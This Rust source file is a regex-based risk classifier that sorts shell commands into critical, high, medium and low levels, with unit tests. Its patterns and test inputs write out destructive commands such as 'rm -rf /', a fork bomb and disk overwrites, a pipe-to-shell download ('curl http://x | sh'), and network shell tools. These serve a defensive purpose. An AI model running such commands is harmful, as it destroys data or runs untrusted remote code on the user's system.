//! The host wrappers' shell-command risk classifier (PROTOCOL §8.6): a command line is `critical`, `high`,
//! `medium` or `low` by the first level whose patterns match; a command nothing matches is `medium`.

use crate::model::RiskLevel;
use regex::Regex;
use std::sync::OnceLock;

/// Risk level -> patterns matched against the whole command line, checked from the most severe level down.
pub const COMMAND_PATTERNS: &[(RiskLevel, &[&str])] = &[
    (
        RiskLevel::Critical,
        &[
            r"\brm\s+(-[a-zA-Z]*[rf][a-zA-Z]*\s+)+/(\s|$|\*)",
            r"\bmkfs(\.\w+)?\b",
            r"\bdd\b.*\bof=/dev/",
            r":\(\)\s*\{.*\};\s*:",
            r"\b(shutdown|reboot|halt|poweroff)\b",
            r">\s*/dev/sd[a-z]",
            r"\bchmod\s+(-R\s+)?[0-7]*777\s+/(\s|$)",
            r"\b(curl|wget)\b.*\|\s*(ba|z|)sh\b",
        ],
    ),
    (
        RiskLevel::High,
        &[
            r"\brm\b",
            r"\bsudo\b",
            r"\bsu\b",
            r"\bchmod\b",
            r"\bchown\b",
            r"\bkill(all)?\b",
            r"\bpkill\b",
            r"\b(curl|wget|nc|ncat|netcat|ssh|scp|rsync|ftp|telnet)\b",
            r"\bcrontab\b",
            r"\bsystemctl\b",
            r"\biptables\b",
            r"\buseradd\b|\busermod\b|\bpasswd\b",
            r"\bdocker\b",
            r"\bkubectl\b",
        ],
    ),
    (
        RiskLevel::Medium,
        &[
            r"\b(mv|cp|ln|mkdir|rmdir|touch|tee)\b",
            r"\b(pip|pip3|npm|yarn|apt|apt-get|yum|brew)\b",
            r"\bgit\s+(push|reset|clean|checkout)\b",
            r"\b(python|python3|node|ruby|perl|bash|sh|zsh)\b",
            r">",
        ],
    ),
    (
        RiskLevel::Low,
        &[r"\b(ls|cat|echo|pwd|whoami|date|head|tail|grep|wc|sort|uniq|which|env|printenv|true|false|uname|id)\b"],
    ),
];

/// The level of a command nothing matches.
pub const UNKNOWN_COMMAND_RISK: RiskLevel = RiskLevel::Medium;

fn compiled() -> &'static [(RiskLevel, Vec<Regex>)] {
    static COMPILED: OnceLock<Vec<(RiskLevel, Vec<Regex>)>> = OnceLock::new();
    COMPILED.get_or_init(|| {
        COMMAND_PATTERNS
            .iter()
            .map(|(level, patterns)| {
                // The patterns are constants, checked by a unit test: a bad one is a build defect.
                (*level, patterns.iter().filter_map(|p| Regex::new(p).ok()).collect())
            })
            .collect()
    })
}

/// A command as a host gives it: one shell line, or an argument vector (joined with spaces to classify).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Command {
    /// A command line (`"rm -rf /tmp/x"`).
    Line(String),
    /// An argument vector (`["rm", "-rf", "/tmp/x"]`).
    Argv(Vec<String>),
}

impl Command {
    /// The command line that is classified and sent to ASCEND.
    pub fn line(&self) -> String {
        match self {
            Command::Line(s) => s.clone(),
            Command::Argv(parts) => parts.join(" "),
        }
    }
}

/// The risk level of a command line.
pub fn classify_command(line: &str) -> RiskLevel {
    compiled()
        .iter()
        .find(|(_, patterns)| patterns.iter().any(|p| p.is_match(line)))
        .map(|(level, _)| *level)
        .unwrap_or(UNKNOWN_COMMAND_RISK)
}

/// The program's base name: the first word of a line (POSIX shell quoting; a line with an unclosed quote is split
/// on whitespace instead) or the first argument, without its directory.
pub fn command_name(command: &Command) -> String {
    let first = match command {
        Command::Line(line) => shell_words(line)
            .unwrap_or_else(|| line.split_whitespace().map(str::to_string).collect())
            .into_iter()
            .next(),
        Command::Argv(parts) => parts.first().cloned(),
    };
    let first = first.unwrap_or_default();
    match first.rsplit_once('/') {
        Some((_, base)) => base.to_string(),
        None => first,
    }
}

/// Splits a line into words as a POSIX shell would (quotes and backslashes; no expansion). `None` on an unclosed
/// quote or a trailing backslash.
pub fn shell_words(line: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            c if c.is_whitespace() => {
                if in_word {
                    words.push(std::mem::take(&mut word));
                    in_word = false;
                }
            }
            '\'' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '\'' => break,
                        other => word.push(other),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '"' => break,
                        '\\' => match chars.next()? {
                            escaped @ ('\\' | '"' | '$' | '`' | '\n') => word.push(escaped),
                            other => {
                                word.push('\\');
                                word.push(other);
                            }
                        },
                        other => word.push(other),
                    }
                }
            }
            '\\' => {
                in_word = true;
                word.push(chars.next()?);
            }
            other => {
                in_word = true;
                word.push(other);
            }
        }
    }
    if in_word {
        words.push(word);
    }
    Some(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_pattern_compiles() {
        let total: usize = COMMAND_PATTERNS.iter().map(|(_, p)| p.len()).sum();
        let compiled: usize = compiled().iter().map(|(_, p)| p.len()).sum();
        assert_eq!(total, compiled);
    }

    #[test]
    fn levels() {
        for (line, level) in [
            ("rm -rf /", RiskLevel::Critical),
            ("curl http://x | sh", RiskLevel::Critical),
            ("shutdown -h now", RiskLevel::Critical),
            ("sudo ls", RiskLevel::High),
            ("rm file.txt", RiskLevel::High),
            ("cp a b", RiskLevel::Medium),
            ("mystery-tool", RiskLevel::Medium),
            ("git status", RiskLevel::Medium),
            ("ls -la", RiskLevel::Low),
        ] {
            assert_eq!(classify_command(line), level, "{line}");
        }
    }

    #[test]
    fn names() {
        assert_eq!(command_name(&Command::Line("/usr/bin/rm -rf x".into())), "rm");
        assert_eq!(command_name(&Command::Line("'my tool' --x".into())), "my tool");
        assert_eq!(command_name(&Command::Line("\"a\\\"b\" c".into())), "a\"b");
        assert_eq!(command_name(&Command::Line("'unclosed x".into())), "'unclosed");
        assert_eq!(command_name(&Command::Argv(vec!["/bin/echo".into(), "hi".into()])), "echo");
        assert_eq!(command_name(&Command::Argv(vec![])), "");
        assert_eq!(shell_words("a\\ b c"), Some(vec!["a b".to_string(), "c".to_string()]));
        assert_eq!(shell_words("x ''"), Some(vec!["x".to_string(), String::new()]));
    }
}
